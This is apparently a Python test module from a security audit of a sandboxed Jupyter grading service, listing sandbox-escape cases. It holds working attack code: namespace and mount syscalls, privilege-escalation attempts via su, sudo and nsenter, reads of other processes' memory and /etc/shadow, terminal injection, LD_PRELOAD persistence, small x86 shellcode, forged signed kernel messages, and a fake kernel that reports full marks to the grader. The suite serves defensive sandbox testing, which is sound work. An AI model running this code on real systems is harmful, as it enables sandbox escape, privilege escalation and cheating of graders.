"""Escaping: from the namespaces, past the filter, or into the grader through Jupyter's protocol.

As in `writing`, the code ends at once where there is no sandbox.
"""

from pathlib import Path

from tests.audit.attacks.writing import INSIDE
from tests.audit.cases import Case, attack, blank, hand_in
from tests.processes import ROOT

FAMILY = "escape"

_ANY_END = ("graded", "kernel died", "timeout")

_CALLS = (
    INSIDE
    + """
import ctypes, errno, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"
def call(what, number, *args):
    if not X86:
        return
    ctypes.set_errno(0)
    got = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, args))
    number = ctypes.get_errno()
    if got >= 0 or number not in (errno.EPERM, errno.ENOSYS):
        print("BREACH: the machine's kernel answered", what, got, errno.errorcode.get(number))
def address(data):
    buffer = ctypes.create_string_buffer(data)
    KEPT.append(buffer)
    return ctypes.addressof(buffer)
KEPT = []
"""
)

_NAMESPACES = """
for flag in (0x80, 0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
    for flags in (flag, flag | 0x10000000, flag | 1 << 32):
        call("unshare", 272, flags)
for pid in (1, os.getpid()):
    for name in ("cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"):
        try:
            call("setns", 308, os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0)
        except OSError:
            pass
call("setns of a process", 308, os.pidfd_open(1), 0x20000)
"""

# A clone that works would leave two processes here: the new one ends at once.
_CLONE = """
def clone(what, number, *args):
    if X86 and libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, args)) == 0:
        os._exit(66)
for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
    for flags in (flag, flag | 0x10000000, flag | 1 << 32):
        clone("clone", 56, flags | 17, 0, 0, 0, 0)
        clone("clone3", 435, address((flags % (1 << 32)).to_bytes(8, "little") + bytes(80)), 88)
try:
    while (ended := os.waitpid(-1, os.WNOHANG | 0x40000000))[0]:
        if os.waitstatus_to_exitcode(ended[1]) == 66:
            print("BREACH: a process in new namespaces")
except ChildProcessError:
    pass
"""

_MOUNTS = """
home, tmpfs, proc = address(b"/tmp/home"), address(b"tmpfs"), address(b"proc")
for kind in (tmpfs, proc, address(b"overlay"), address(b"sysfs"), address(b"devtmpfs")):
    call("mount", 165, kind, home, kind, 0, 0)
call("bind", 165, address(b"/proc/1/root"), home, 0, 4096, 0)
call("remount", 165, 0, address(b"/"), 0, 32 | 4096, 0)
call("umount2", 166, address(b"/proc"), 2)
call("pivot_root", 155, home, home)
call("chroot", 161, home)
call("open_tree", 428, -100, address(b"/"), 1)
call("move_mount", 429, -100, home, -100, home, 0)
call("fsopen", 430, tmpfs, 0)
call("fsmount", 432, 0, 0, 0)
call("fspick", 433, -100, address(b"/"), 0)
call("mount_setattr", 442, -100, address(b"/"), 0, address(bytes(32)), 32)
call("open_by_handle_at", 304, -100, address(bytes(32)), 0)
call("name_to_handle_at", 303, -100, address(b"/usr"), address(bytes(64)), address(bytes(8)), 0)
"""

_KERNEL_DOORS = """
for what, number in {
    "ptrace": 101, "syslog": 103, "personality": 135, "init_module": 175, "quotactl": 179,
    "kexec_load": 246, "add_key": 248, "request_key": 249, "keyctl": 250, "vmsplice": 278,
    "perf_event_open": 298, "fanotify_init": 300, "clock_adjtime": 305, "process_vm_readv": 310,
    "process_vm_writev": 311, "kcmp": 312, "finit_module": 313, "bpf": 321, "userfaultfd": 323,
    "io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "pidfd_getfd": 438,
    "modify_ldt": 154, "acct": 163, "swapon": 167, "reboot": 169, "iopl": 172, "ioperm": 173,
    "process_madvise": 440, "quotactl_fd": 443, "settimeofday": 164, "sethostname": 170,
}.items():
    call(what, number, 0, 0, 0, 0, 0, 0)
call("keyctl: the session's keys", 250, 0, -3, 1)
call("keyctl: join a session", 250, 1, address(b"_ses"))
call("io_uring_setup", 425, 8, address(bytes(256)))
call("ptrace: seize", 101, 0x4206, 1, 0, 0)
"""

_MEMORY_OF_OTHERS = """
import sys
for pid in {1, os.getppid()} - {os.getpid()}:
    for name, mode in (("mem", "r+b"), ("mem", "rb"), ("environ", "rb"), ("auxv", "rb")):
        try:
            with open(f"/proc/{pid}/{name}", mode, buffering=0) as file:
                found = file.read(1)
        except OSError:
            continue
        print("BREACH: opened", file.name, mode)
    for name in ("root", "cwd", "exe"):
        try:
            path = os.readlink(f"/proc/{pid}/{name}")
        except OSError:
            continue
        if not os.path.exists(path):
            print("BREACH: process", pid, "has", name, path)
    for name in ("rootREPOSITORY", "root/home", "root/root/.ssh", "root/etc/shadow", "cwd/../home"):
        here = "/" + name.split("/", 1)[1]
        if os.path.exists(f"/proc/{pid}/{name}") and not os.path.exists(here):
            print("BREACH: sees", f"/proc/{pid}/{name}")
""".replace("REPOSITORY", str(ROOT))

_SETUID = """
import shutil, subprocess
def user_of(*command, text=""):
    try:
        return subprocess.run(command, input=text, capture_output=True, text=True, timeout=5).stdout
    except (OSError, subprocess.TimeoutExpired):
        return ""
commands = [
    "su -c id@-u", "sudo -n id -u", "pkexec id -u", "doas id -u", "newgrp root", "sg root -c id@-g",
    "setpriv --reuid=0 id -u", "runuser -c id@-u", "unshare -r id -u", "nsenter -t 1 -a id -u",
    "bwrap --unshare-user --uid 0 --ro-bind / / id -u", "capsh --uid=0 -- -c id@-u",
    "chroot / id -u",
]
for command in commands:
    words = [word.replace("@", " ") for word in command.split()]
    if user_of(*words, text="id -u\\n").strip() == "0":
        print("BREACH: root by", command)
for command in (("mount", "-t", "tmpfs", "none", "/tmp/home"), ("umount", "/proc")):
    if shutil.which(command[0]) and not subprocess.run(command, capture_output=True).returncode:
        print("BREACH:", *command)
shutil.copy(shutil.which("id"), "id")
capability = bytes.fromhex("0100000200000080" + "0" * 24)
for act in (lambda: os.chown("id", 0, 0), lambda: os.setuid(0), lambda: os.setgroups([0]),
            lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0),
            lambda: os.setxattr("id", "security.capability", capability)):
    try:
        act()
    except OSError:
        continue
    print("BREACH: got another user's rights")
"""

_SETTINGS = """
def written(path):
    with open(path, "r+b", buffering=0) as file:
        value = file.read(4096)
        file.seek(0)
        file.write(value)
for top in ("/proc/sys", "/proc/irq", "/proc/bus", "/proc/fs", "/proc/acpi", "/proc/tty", "/sys"):
    for folder, _, files in os.walk(top):
        for name in files:
            try:
                written(f"{folder}/{name}")
            except OSError:
                continue
            print("BREACH: wrote the same again to", f"{folder}/{name}")
# Of an ordinary user's sandbox the first process is as much its own as the kernel is.
theirs = os.stat("/proc/1").st_uid != os.getuid()
for name in theirs * ("oom_score_adj", "comm", "attr/current", "uid_map", "coredump_filter",
             "timerslack_ns", "loginuid", "autogroup"):
    try:
        written(f"/proc/1/{name}")
    except OSError:
        continue
    print("BREACH: wrote the same again to the first process's", name)
for name in ("sysrq-trigger", "kcore", "mtrr", "slabinfo"):
    try:
        os.close(os.open(f"/proc/{name}", os.O_WRONLY))
    except OSError:
        continue
    print("BREACH: opened for writing", name)
"""

_DEVICES = """
import stat
numbers = {"mem": (1, 1), "kmsg": (1, 11), "vda": (254, 0), "sda": (8, 0), "fuse": (10, 229)}
for folder in ("/tmp", "/dev/shm", "/run/kernel", "/dev"):
    for name, (major, minor) in numbers.items():
        for kind in (stat.S_IFCHR, stat.S_IFBLK):
            path = f"{folder}/audit-{name}"
            try:
                os.mknod(path, kind | 0o666, os.makedev(major, minor))
            except OSError:
                continue
            print("BREACH: made the device", path)
            os.unlink(path)
for name in os.listdir("/dev"):
    mode = os.stat(f"/dev/{name}").st_mode if os.path.exists(f"/dev/{name}") else 0
    if stat.S_ISBLK(mode):
        print("BREACH: a disk is there", name)
"""

_TERMINALS = """
import fcntl, glob, pty
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *glob.glob("/dev/pts/*")):
    if path.endswith("ptmx"):
        continue
    try:
        os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    print("BREACH: opened", path)
mine = pty.openpty()
for number in (0, 1, 2, *mine):
    for request in (0x5412, 0x5412 | 1 << 32, 0x541C):
        if libc.ioctl(number, ctypes.c_ulong(request), ctypes.c_char_p(b"\\x02")) == 0:
            print("BREACH: typed into", number, hex(request))
try:
    os.close(os.open("/dev/tty", os.O_RDWR))
    print("BREACH: a terminal controls this process")
except OSError:
    pass
"""

_SIGNALS = """
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL,
               signal.SIGSEGV, signal.SIGUSR1, 33, 64):
    for target in {1, os.getppid()}:
        try:
            os.kill(target, number)
        except OSError:
            pass
for pid in range(3, 40_000):
    if pid != os.getpid():
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        if not os.path.exists(f"/proc/{pid}"):
            print("BREACH: a process that is not seen", pid)
time.sleep(1)
try:
    os.kill(-1, signal.SIGTERM)
except ProcessLookupError:
    pass  # there are no others
"""

# Numbers and ways of other architectures; each try in a process of its own, which it may end.
_FOREIGN_CALLS = """
import mmap, os
def machine_code(code):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(bytes.fromhex(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
tries = {
    "getpid of x32": lambda: libc.syscall(ctypes.c_long(0x40000000 | 39)),
    "ptrace of x32": lambda: libc.syscall(ctypes.c_long(0x40000000 | 521), 0, 0, 0, 0),
    "unshare of x32": lambda: libc.syscall(ctypes.c_long(0x40000000 | 272), 0x10000000),
    # mov eax, 20; int 0x80; ret
    "getpid by int 0x80": lambda: machine_code("b814000000cd80c3"),
    # push rbx; mov eax, 310; mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
    "unshare by int 0x80": lambda: machine_code("53b836010000bb00000010cd805bc3"),
}
for what, act in tries.items() if X86 else ():
    ends = os.pipe()
    if not (child := os.fork()):
        os.write(ends[1], str(act()).encode())
        os._exit(0)
    os.close(ends[1])
    os.waitpid(child, 0)
    said = os.read(ends[0], 99).decode()
    if said.isdigit():
        print("BREACH: the machine's kernel answered", what, said)
"""

_DUMPS = """
import resource, signal
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    print("BREACH: core dumps are on")
except (OSError, ValueError):
    pass
for number in (signal.SIGSEGV, signal.SIGABRT, signal.SIGBUS, signal.SIGQUIT):
    if not (child := os.fork()):
        os.kill(os.getpid(), number)
        os._exit(0)
    if os.WCOREDUMP(os.waitpid(child, 0)[1]):
        print("BREACH: the machine took a core dump")
"""

# Start-up files for later programs: in this sandbox they must not reach other kernels.
_START_UP = """
import glob, site, subprocess, sys
note = "/tmp/home/was-here"
packages = site.getusersitepackages()
places = ["/tmp/home/.profile", "/tmp/home/.bashrc", "/tmp/home/sitecustomize.py",
          f"{packages}/sitecustomize.py", f"{packages}/usercustomize.py",
          "/tmp/home/.ipython/profile_default/startup/00.py", "/tmp/home/.pythonrc",
          "/tmp/home/.jupyter/jupyter_config.py", "/tmp/home/.config/nbgrader/nbgrader_config.py",
          "/dev/shm/audit-note", "/tmp/audit-note", "/run/kernel/audit-note"]
for place in places:
    if os.path.exists(place) and "audit" in open(place).read():
        print("BREACH: what another student left is at", place)
for place in places:
    os.makedirs(os.path.dirname(place), exist_ok=True)
    with open(place, "w") as file:
        file.write("# audit\\nopen('/tmp/home/was-here', 'w')\\n")
os.environ["LD_PRELOAD"] = os.environ["LD_AUDIT"] = "/tmp/home/mine.so"
os.environ["PYTHONSTARTUP"] = os.environ["BASH_ENV"] = os.environ["ENV"] = "/tmp/home/.pythonrc"
for path in ("/etc/ld.so.preload", "/etc/ld.so.cache", "/etc/ld.so.conf", "/etc/profile"):
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
    except OSError:
        continue
    print("BREACH: opened for writing", path)
subprocess.run([sys.executable, "-c", "pass"])
"""

_FOLDERS_LEFT_OPEN = """
import stat
root = os.stat("/")
for number in range(4096):
    try:
        if not stat.S_ISDIR(os.fstat(number).st_mode):
            continue
        top = os.open("../" * 40, os.O_RDONLY, dir_fd=number)
    except OSError:
        continue
    if (os.fstat(top).st_dev, os.fstat(top).st_ino) != (root.st_dev, root.st_ino):
        print("BREACH: descriptor", number, "leads to", os.listdir(top))
for path in ("../" * 40, "/proc/self/root/" + "../" * 40, "/run/door/../../..", "/submission/.."):
    if os.stat(path).st_ino != root.st_ino:
        print("BREACH: another root at", path)
os.chdir("/submission")
if os.path.realpath("..") != "/":
    print("BREACH: the submission's folder has neighbours")
"""

# Messages as the kernel would send them, with its key, but with forged content.
_PUBLISH = (
    INSIDE
    + """
import json, time
kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent("shell")
def publish(kind, content, raw=None, **header):
    message = session.msg(kind, content if isinstance(content, dict) else {}, parent=parent)
    message["header"].update(header)
    parts = [session.pack(message[p]) for p in ("header", "parent_header", "metadata")]
    parts.append(raw if raw is not None else json.dumps(content).encode())
    kernel.iopub_thread.send_multipart([b"forged", b"<IDS|MSG>", session.sign(parts), *parts])
"""
)

_NO_MESSAGES = {
    "nothing": 'kernel.iopub_thread.send_multipart([b""])',
    "unsigned": 'kernel.iopub_thread.send_multipart([b"<IDS|MSG>", b"x", *[b"{}"] * 4])',
    "short": 'kernel.iopub_thread.send_multipart([b"<IDS|MSG>", session.sign([])])',
    "not-json": 'publish("stream", {}, b"\\xff{")',
    "list": 'publish("stream", [1, {}])',
    "null": 'publish("status", None)',
    "numbers": 'publish("stream", {}, b"9" * 6000)',
    "deep": 'publish("stream", {}, b"[" * 200_000)',
    "deep-text": (
        'deep = b"[" * 950 + b"]" * 950\n'
        'publish("stream", {}, b\'{"name": "x", "text": \' + deep + b"}")'
    ),
    "kind": 'publish("stream", {"name": "x", "text": "y"}, msg_type=["stream"])',
    "state": 'publish("status", {"execution_state": "idle", "transient": [1]})',
    "traceback": 'publish("error", {"ename": "x", "evalue": "y", "traceback": {"a": 1}})',
}

_GIANT = """
for size in (7 << 20, 9 << 20, 64 << 20):
    for _ in range(20):
        publish("stream", {}, b'{"name": "stdout", "text": "' + b"x" * size + b'"}')
        publish("display_data", {}, b'{"data": {"image/png": "' + b"A" * size + b'"}}')
time.sleep(2)
"""

# An invalid message ends the run: each of those is a submission of its own. These are accepted.
_ODD_KINDS = """
kinds = ["update_display_data", "comm_open", "comm_msg", "comm_close", "clear_output", "status",
         "", "x" * 999, "execute_input", "shutdown_reply", "input_request", "debug_event"]
odd = {"execution_state": "busy", "data": {"text/html": []}, "execution_count": {"deep": [[1]]},
       "comm_id": 1, "transient": {"display_id": "a"}, "wait": [], "code": 5}
for kind in kinds:
    publish(kind, odd)
for data in ({}, {"text/plain": 5}, {"image/png": 5, "image/jpeg": "!"}, {"image/png": "AAAA"},
             {"text/html": "<script>"}, {"image/svg+xml": "<svg/>"}):
    publish("display_data", odd | {"data": data, "metadata": {"nbgrader": {"grade": True}}})
publish("stream", {"name": ["stderr"], "text": {"a": ["\\x1b]0;title\\x07"] * 9}})
publish("error", {"ename": {}, "evalue": [1], "traceback": [5, None, {}]})
time.sleep(1)
"""

_REPLIES = """
ident = kernel._parent_ident["shell"]
for n in range(50):
    publish("status", {"execution_state": "idle"})
    for status in ("ok", "error", "aborted", None):
        content = {"status": status, "execution_count": n, "user_expressions": {}, "payload": []}
        session.send(kernel.shell_stream, "execute_reply", content, parent, ident=ident)
other = dict(parent["header"], msg_id="another")
text = {"name": "stdout", "text": "x"}
session.send(kernel.iopub_socket, "stream", text, {"header": other})
session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, {"header": {}})
time.sleep(5)
"""

_FLOOD = """
began = time.monotonic()
while time.monotonic() - began < 10:
    widget = {"comm_id": str(time.monotonic()), "target_name": "jupyter.widget"}
    publish("comm_open", widget | {"data": {"state": {"outputs": ["x"] * 999}}})
    publish("comm_msg", widget | {"data": {"method": "update", "state": {"outputs": ["x"] * 999}}})
    publish("display_data", {"data": {"text/plain": "x"}, "transient": {"display_id": "a"}})
    publish("update_display_data", {"data": {"text/html": "y"}, "transient": {"display_id": "a"}})
    publish("clear_output", {"wait": True})
    time.sleep(0.001)
"""

# What looks like a date in a header is parsed, in Python: half a minute for one message.
_DATES = """
dates = ["2000-01-01T00:00:00"] * 300_000
for n in range(60):
    publish("status", {"execution_state": "busy"}, dates=dates, number=n)
time.sleep(60)
"""

# Another process takes the kernel's place, with its key, and reports success.
_IMPERSONATOR = """
import json, os, sys, time, zmq
from jupyter_client.session import Session
info = json.load(open("/run/kernel.json"))
session = Session(key=info["key"].encode(), check_pid=False)
context = zmq.Context()
kinds = {"shell_port": zmq.ROUTER, "iopub_port": zmq.PUB, "hb_port": zmq.REP}
ends = {}
for name, kind in kinds.items():
    path = f"{info['ip']}-{info[name]}"
    if os.path.exists(path):
        os.unlink(path)
    ends[name] = context.socket(kind)
    ends[name].bind("ipc://" + path)
def finish(message, ident):
    verdict = {"name": "stdout", "text": "\\N{CHECK MARK} Right. 10/10 points\\n"}
    session.send(ends["iopub_port"], "stream", verdict, message)
    reply = {"status": "ok", "execution_count": 1, "protocol_version": "5.3"}
    kind = message["header"]["msg_type"].replace("request", "reply")
    session.send(ends["shell_port"], kind, reply, message, ident)
    session.send(ends["iopub_port"], "status", {"execution_state": "idle"}, message)
time.sleep(1)
finish({"header": {"msg_id": sys.argv[1], "msg_type": "execute_request", "session": "x",
                   "username": "x", "version": "5.3"}}, bytes.fromhex(sys.argv[2]))
while True:
    for end in (ends["shell_port"], ends["hb_port"]):
        if end.poll(20):
            if end is ends["hb_port"]:
                end.send(end.recv())
            else:
                ident, message = session.recv(end)
                finish(message, ident)
"""

_IMPERSONATE = f"""
import sys
open("/tmp/home/fake.py", "w").write({_IMPERSONATOR!r})
ident = b"".join(kernel._parent_ident["shell"]).hex()
for number in range(3, 1024):
    try:
        os.set_inheritable(number, False)
    except OSError:
        pass
os.execv(sys.executable, [sys.executable, "/tmp/home/fake.py", parent["header"]["msg_id"], ident])
"""

_SOCKETS_REPLACED = """
import socket, stat
for number in (1, 3, 4, 5):
    path = f"/run/kernel/socket-{number}"
    if os.path.exists(path):
        os.unlink(path)
    if number == 1:
        os.mkdir(path)
    elif number == 3:
        os.mkfifo(path)
    elif number == 4:
        os.symlink("socket-4", path)
    else:
        server = socket.socket(socket.AF_UNIX)
        server.bind(path)
        server.listen(0)
kernel.stdin_socket.close(linger=0)
time.sleep(3)
"""

_OTHER_ENDS = """
import socket
connections = {}
for number in (1, 2, 3, 4, 5):
    for n in range(200):
        end = socket.socket(socket.AF_UNIX)
        end.settimeout(1)
        try:
            end.connect(f"/run/kernel/socket-{number}")
            greeting = b"\\xff" + bytes(8) + b"\\x7f\\x03\\0NULL" + bytes(48)
            end.sendall(greeting + b"\\x04\\xff" + bytes(300))
        except OSError:
            break
        connections[number, n] = end
time.sleep(2)
"""

# Beside the notebook, with the name of the program that starts the kernel.
_AS_LAUNCHER = f"""
import os, time
if os.uname().nodename not in ("sandbox", "desk"):
    print("BREACH: student code runs outside the sandbox")
    raise SystemExit
import sys
sys.argv[1:] = ["none", "00"]
{_IMPERSONATOR}
"""


def _calls(name: str, tries: str, code: str, **options) -> Case:
    return attack(FAMILY, name, tries, _CALLS + code, **options)


def _messages(
    name: str, tries: str, code: str, states: tuple[str, ...] = _ANY_END, **options
) -> Case:
    return attack(FAMILY, name, tries, _PUBLISH + code, states=states, **options)


def _shadowed(folder: Path) -> None:
    hand_in(blank(), others={"ipykernel_launcher.py": _AS_LAUNCHER.encode()})(folder)


CASES = (
    _calls("namespaces", "enters new namespaces and those of the first process", _NAMESPACES),
    _calls("clones", "starts processes in new namespaces", _CLONE),
    _calls("mounts", "mounts, changes its root, opens files by handle", _MOUNTS),
    _calls("kernel-doors", "calls what only administrators and debuggers need", _KERNEL_DOORS),
    _calls("memory-of-others", "opens memory and folders of other processes", _MEMORY_OF_OTHERS),
    _calls("setuid-programs", "becomes root by su, mount, newgrp and others", _SETUID),
    _calls("kernel-settings", "writes every setting of the machine's kernel", _SETTINGS),
    _calls("device-nodes", "makes device nodes and looks for disks", _DEVICES),
    _calls("terminals", "types into terminals", _TERMINALS),
    _calls(
        "signals", "signals the first process, its parent and all others", _SIGNALS, states=_ANY_END
    ),
    _calls("foreign-calls", "makes system calls of other architectures", _FOREIGN_CALLS),
    _calls("core-dumps", "crashes so that the machine stores a core dump", _DUMPS),
    *(
        _calls(
            f"start-up-files-{n}", "leaves start-up files for the next student's kernel", _START_UP
        )
        for n in (1, 2, 3)
    ),
    _calls("folders-left-open", "escapes through folders that were left open", _FOLDERS_LEFT_OPEN),
    *(
        _messages(f"no-message-{name}", "sends invalid messages", code + "\ntime.sleep(1)")
        for name, code in _NO_MESSAGES.items()
    ),
    _messages("odd-messages", "sends messages of odd kinds and contents", _ODD_KINDS),
    _messages("giant-messages", "sends messages of up to 64 MiB", _GIANT),
    _messages("forged-replies", "reports that cells ended before they did", _REPLIES),
    _messages("flood", "sends widgets and changing displays without end", _FLOOD),
    _messages("slow-messages", "sends messages that take long to read", _DATES),
    _messages("impersonated", "ends the kernel and answers in its place", _IMPERSONATE),
    _messages(
        "sockets-replaced", "puts folders, pipes and links where sockets were", _SOCKETS_REPLACED
    ),
    _messages("sockets-crowded", "connects to the kernel's sockets with nonsense", _OTHER_ENDS),
    Case(
        "impersonated-from-the-start",
        FAMILY,
        "contains a program that is started instead of the kernel",
        _shadowed,
        states=("graded", "kernel died", "timeout", "needs review"),
    ),
)
